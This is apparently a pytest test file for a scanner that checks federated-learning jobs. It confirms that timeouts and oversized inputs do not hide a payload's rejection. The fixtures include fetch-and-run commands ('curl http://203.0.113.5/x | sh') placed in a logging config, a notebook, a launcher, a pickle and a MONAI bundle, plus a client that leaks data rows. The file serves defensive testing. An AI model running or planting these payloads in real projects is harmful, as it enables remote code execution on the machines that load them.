"""Session 50 (hardening50): a limit, a bomb or an error beside a payload never hides the payload's reject.

- Two detector bombs, both before the payload's detector (session 49's open note): the one second run of the
  detectors a failed unit never began failed at the second bomb, and the payload's detector never ran (escalate).
  The detectors left now run apart again from the stage after the one that failed, each run with its own clock
  (api._apart_until_done): every bomb costs one limit, and the payload's reject stands.
"""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path

import pytest
from hypothesis import example, given, settings, strategies as st

from analyzer import api
from analyzer.engine import detectors, isolate
from analyzer.model import Decision
from analyzer.policy import load_policy
from conftest import CORPUS

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

# A logging file whose handler arguments run a shell command (config-attack.logging-config-code: reject), read by
# the logging-config detector; and a notebook cell doing the same, read by the notebook detector.
LOGGING_RUNS_CODE = ("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nlevel=INFO\n"
                     "handlers=h\n[handler_h]\nclass=StreamHandler\n"
                     "args=(__import__('os').system('curl http://203.0.113.5/x | sh'),)\n")
PAYLOAD_CELL = "import os\nos.system('curl http://203.0.113.5/x | sh')\n"


def _policy(tmp_path: Path, seconds: int):
    path = tmp_path / "site-policy.yaml"
    path.write_text(f"limits:\n  max_analysis_seconds: {seconds}\n")
    return load_policy(path)


def _sleeps(*args) -> list:
    time.sleep(60)
    return []


class _Forking:
    """A fork server's calls, each in a child forked from this process (which holds the injected faults)."""

    def call(self, task: str, args: tuple, budget: isolate.Budget, policy=None):
        return isolate.run_limited(isolate._tasks()[task], args, budget)


def _rules(report) -> set[str]:
    return {f.rule for f in report.findings}


def _limits(report) -> list[str]:
    return [f.message for f in report.findings if f.rule == "unanalyzable.time-limit"]


def _notebook(cell: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                                  "source": cell.splitlines(keepends=True)}],
                       "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _scan(tmp_path: Path, files: dict[str, str], seconds: int, site: bool):
    policy, job = _policy(tmp_path, seconds), tmp_path / "job"
    job.mkdir()
    for name, text in files.items():
        (job / name).write_text(text)
    if site:  # a ForkServer is a fresh interpreter, without the faults: its calls forked from here instead
        return api.analyze_isolated(api.collect(job, policy.limits), policy, _Forking())
    return api.scan(job, policy)


@pytest.mark.parametrize("site", [False, True])
def test_two_detector_bombs_before_the_payloads_detector_hide_nothing(tmp_path: Path, monkeypatch,
                                                                      site: bool) -> None:
    """Bombs in nvflare-config and logging-config (injected), the payload in a notebook (a later detector): the
    unit fails in the first bomb, its run apart in the second, and a third run from the stage after it finds
    the payload. Each bomb is named once, by its stage."""
    for bombed in ("nvflare-config", "logging-config"):
        monkeypatch.setitem(detectors.FILE_DETECTORS, bombed, lambda ctx: iter(_sleeps()))
    report = _scan(tmp_path, {"train.py": "import numpy as np\n", "explore.ipynb": _notebook(PAYLOAD_CELL)}, 2, site)
    limits = _limits(report)
    assert len(limits) == 2, limits
    assert any("in detector nvflare-config" in m for m in limits) and any("in detector logging-config" in m
                                                                          for m in limits), limits
    assert report.decision is Decision.REJECT, _rules(report)


def test_every_bomb_costs_one_limit_and_no_detector_runs_twice(tmp_path: Path, monkeypatch) -> None:
    """Three bombs in a row before the payload's detector: three limits, each detector begun once (a run that
    began again at a failed detector would spend its budget again, and could loop)."""
    real_reached = isolate.reached

    def counted(stage: str) -> None:  # stages announced in the forked children: written where the test reads them
        with open(tmp_path / "stages", "a") as out:
            out.write(stage + "\n")
        real_reached(stage)

    monkeypatch.setattr(isolate, "reached", counted)
    for bombed in ("nvflare-config", "logging-config", "other-files"):
        monkeypatch.setitem(detectors.FILE_DETECTORS, bombed, lambda ctx: iter(_sleeps()))
    started = time.monotonic()
    report = _scan(tmp_path, {"logging.conf": "", "explore.ipynb": _notebook(PAYLOAD_CELL)}, 2, False)
    begun = (tmp_path / "stages").read_text().splitlines()
    assert len(_limits(report)) == 3 and report.decision is Decision.REJECT, _limits(report)
    assert len(begun) == len(set(begun)), begun
    assert time.monotonic() - started < 6 + 3 * 2 + 30


def test_a_run_apart_that_fails_before_its_first_detector_ends_the_runs(tmp_path: Path, monkeypatch) -> None:
    """A run apart that reaches no stage (it failed before the first detector it was given) is not run again:
    both limits are named, and never an accept."""
    def apart(content, policy, vouch=True, after=""):
        with open(tmp_path / "calls", "a") as out:
            out.write(after + "\n")
        return _sleeps()

    monkeypatch.setitem(detectors.FILE_DETECTORS, "nvflare-config", lambda ctx: iter(_sleeps()))
    monkeypatch.setattr(api, "detectors_apart", apart)
    report = _scan(tmp_path, {"train.py": "import numpy as np\n"}, 1, False)
    calls = (tmp_path / "calls").read_text().splitlines()
    assert calls == [isolate.stage_of("nvflare-config")], calls
    assert len(_limits(report)) == 2 and report.decision is Decision.ESCALATE, _limits(report)


CONFIG_JOB = CORPUS / "jobs" / "mal_config_popen"  # its reject comes from the client's config alone


def _config_job_with(tmp_path: Path, component: dict) -> Path:
    """mal_config_popen with one more component in its client config."""
    job = tmp_path / "job"
    shutil.copytree(CONFIG_JOB, job)
    config = job / "app_client" / "config" / "config_fed_client.json"
    doc = json.loads(config.read_text())
    doc["components"].append(component)
    config.write_text(json.dumps(doc))
    return job


def test_a_long_component_path_is_judged_in_linear_time(tmp_path: Path) -> None:
    """A component path of 100,000 dotted parts (200 KB): configs._Job.job_module joined every prefix of it to
    look for a job module (quadratic: 20,000 parts took 12 s of CPU, 200,000 held the unit past its limit);
    now only prefixes as deep as the job's deepest module. The config's reject stands."""
    from analyzer.engine import analysis

    policy = load_policy()
    job = _config_job_with(tmp_path, {"id": "x", "path": "a." * 100_000 + "B", "args": {}})
    content = api.collect(job, policy.limits)
    started = time.process_time()
    found = analysis.unit_findings(content, policy)
    assert time.process_time() - started < 20
    assert {"config-attack.dangerous-component", "config-attack.untrusted-component"} <= {f.rule for f in found}


def _every_prefix_reserved(folder: str) -> bool:
    """The reading before session 50: each whole prefix of the folder asked in turn (quadratic)."""
    from analyzer.engine.detectors.paths import site_reserved

    parts = folder.split("/")
    return any(site_reserved("/".join(parts[:i])) for i in range(1, len(parts) + 1))


def _listed_components() -> list[str]:
    """Every component of the site-reserved list's own examples (an entry added later brings its names here),
    and a few plain ones."""
    from analyzer.engine.detectors.paths import _SITE_RESERVED

    listed = {c for e in _SITE_RESERVED.spec.entries for x in e.examples for c in x.split("/")}
    return sorted(listed | {"", ".", "..", "a", "outputs", "model.pt", "log.json"})


_COMPONENTS = _listed_components()


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(_COMPONENTS), min_size=1, max_size=9))
@example(["", "tmp", "nvflare", "poc", "a", "b"])  # the deepest start-anchored name: four components
@example([".", "0b1e2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d", "a", "b", "c"])
@example(["a", "b", "c", "d", "e", "f", "..", "g"])
def test_a_folder_on_the_way_is_reserved_as_each_of_its_prefixes_says(components: list[str]) -> None:
    """conditions._reserved_on_the_way asks a long folder's deeper prefixes by their last two components: the same
    answer as asking every whole prefix, for paths of the names the site-reserved list anchors at a start or an
    end, in any order."""
    from analyzer.engine.conditions import _reserved_on_the_way

    folder = "/".join(components)
    assert _reserved_on_the_way(folder) == _every_prefix_reserved(folder), folder


def test_a_deep_folder_is_judged_in_linear_time(tmp_path: Path) -> None:
    """`os.makedirs` of a literal folder of 20,000 parts (a 40 KB file): each whole prefix searched in turn by the
    site-reserved list took 90 s of CPU, the unit's whole budget at a loaded site; the payload stands."""
    from analyzer.engine.conditions import _reserved_on_the_way

    started = time.process_time()
    assert _reserved_on_the_way("a/" * 20_000 + "log.txt") and not _reserved_on_the_way("a/" * 20_000 + "b")
    assert time.process_time() - started < 2
    job = tmp_path / "job"
    job.mkdir()
    (job / "util.py").write_text("import os\n\nos.makedirs('" + "a/" * 20_000 + "b')\n")
    (job / "zz_train.py").write_text(PAYLOAD_CELL)
    report = api.scan(job)
    assert "unanalyzable.time-limit" not in _rules(report) and report.decision is Decision.REJECT, _rules(report)


def test_a_pickle_of_long_global_names_keeps_its_dangerous_call(tmp_path: Path) -> None:
    """A model.pkl of ten GLOBALs of 40,000 dotted parts each, then `os.system` called on a fetch-and-run command:
    the qualified-name lists (lists.Matcher) joined every prefix of each name (a minute of CPU per 80,000 parts,
    the other-files detector held past the unit's limit with the pickle's reject); now no prefix deeper than the
    list's deepest entry."""
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("import pickle\n\nmodel = pickle.load(open('model.pkl', 'rb'))\n")
    padding = b"".join(b"c" + b"a." * 40_000 + b"a\nb%d\n0" % i for i in range(10))
    (job / "model.pkl").write_bytes(padding + b"cos\nsystem\n(S'curl http://203.0.113.5/x | sh'\ntR.")
    report = api.scan(job)
    assert "unanalyzable.time-limit" not in _rules(report) and "files.pickle-dangerous" in _rules(report)
    assert report.decision is Decision.REJECT


def test_a_long_dotted_literal_keeps_the_launcher_counted_as_run(tmp_path: Path) -> None:
    """A client of a literal of 60,000 dotted parts beside `BACKEND = "job"` (the literal that makes the launcher
    run, red team 49c): not_run._spelled kept each leading part (a 120 KB literal: 3.6 GB of prefixes, 40 s of
    CPU; 100,000 parts 10 GB), now only as deep as the folder's deepest module; the launcher's reject stands."""
    from analyzer.engine.detectors import not_run

    started = time.process_time()
    tokens = not_run._tokens(('x = "' + "a." * 60_000 + 'job"\n').encode())
    assert not_run._spelled(tokens, 1) == {"a"} and time.process_time() - started < 2
    launcher = ('import os\nfrom nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe\n'
                'recipe = NumpyFedAvgRecipe(name="hello", min_clients=2, num_rounds=3, train_script="client.py")\n'
                'os.system("curl -s http://203.0.113.9/x | sh")\n')
    client = ('import nvflare.client as flare\nflare.init()\nPADDING = "' + "a." * 60_000 + 'a"\n'
              'BACKEND = "job"\nwhile flare.is_running():\n    flare.send(flare.receive())\n')
    job = tmp_path / "job"
    job.mkdir()
    (job / "job.py").write_text(launcher)
    (job / "client.py").write_text(client)
    report = api.scan(job)
    assert not any(r.startswith("unanalyzable.") and r.endswith("-limit") for r in _rules(report)), _rules(report)
    assert "unvouched.launcher-not-run" not in _rules(report) and report.decision is Decision.REJECT


@pytest.mark.parametrize("spelled", [".", " . ", " \\\n. "])
def test_a_long_dotted_import_costs_its_file_not_the_unit(tmp_path: Path, spelled: str) -> None:
    """`import a.a.a...` of 80,000 parts (160 KB, under the size that screens a file apart): CPython's parser joins
    the name one part at a time (2.9 GB), in the screen in the unit's own process: the unit's memory limit, and
    the payload in a later file unread (escalate). Such a file is screened apart now: its own limit, the payload's
    reject beside it."""
    from analyzer.engine import analysis

    source = "import " + spelled.join(["a"] * 80_000) + "\n"
    assert analysis._long_dotted(source.encode()) and not analysis._long_dotted(b"x = a.b\n" * 30_000)
    job = tmp_path / "job"
    job.mkdir()
    (job / "util.py").write_text(source)
    (job / "zz_train.py").write_text(PAYLOAD_CELL)
    report = api.scan(job)
    assert "remote-code.fetch-and-run-command" in _rules(report) and report.decision is Decision.REJECT, _rules(report)


def test_a_deep_monai_expression_hides_nothing_else_of_its_bundle(tmp_path: Path) -> None:
    """A MONAI bundle's `$a.a.a...()` of 300,000 parts (600 KB): ast.parse raised RecursionError, which failed the
    bundle's whole translation (unanalyzable.internal-error for the file, the payload's reject lost: escalate); now
    that expression alone is one the gate does not translate, and the bundle's other items are still read."""
    long = "a." * 300_000 + "B"
    job = tmp_path / "job"
    (job / "configs").mkdir(parents=True)
    (job / "configs" / "metadata.json").write_text(json.dumps({"version": "0.1"}))
    (job / "configs" / "train.json").write_text(json.dumps({
        "trainer": {"_target_": long}, "x": "$" + long + "()",
        "run": "$__import__('os').system('curl http://203.0.113.5/x | sh')"}))
    report = api.scan(job)
    assert "unvouched.monai-bundle" in _rules(report) and "unanalyzable.internal-error" not in _rules(report), \
        _rules(report)
    assert "remote-code.fetch-and-run-command" in _rules(report) and report.decision is Decision.REJECT


def test_a_deep_query_string_hides_no_row_leak(tmp_path: Path) -> None:
    """`df.query("a.a.a...b == 1")` of 300,000 parts: flow.calls._comparison_text's ast.parse raised RecursionError,
    which failed the file's secret-leak and update-leak detectors (internal-error: escalate), the client's rows
    sent in its update unreported; now a filter the gate cannot read is one that may keep any rows: reject."""
    client = ('import pandas as pd\nimport nvflare.client as flare\nflare.init()\ndf = pd.read_csv("/data/site.csv")\n'
              'Q = "' + "a." * 300_000 + 'b == 1"\nsub = df.query(Q)\nwhile flare.is_running():\n'
              '    m = flare.receive()\n    flare.send(flare.FLModel(params={"rows": sub.values.tolist()}))\n')
    job = tmp_path / "job"
    job.mkdir()
    (job / "client.py").write_text(client)
    report = api.scan(job)
    assert "unanalyzable.internal-error" not in _rules(report), _rules(report)
    assert "update-channel-leak.raw-data-in-update" in _rules(report) and report.decision is Decision.REJECT
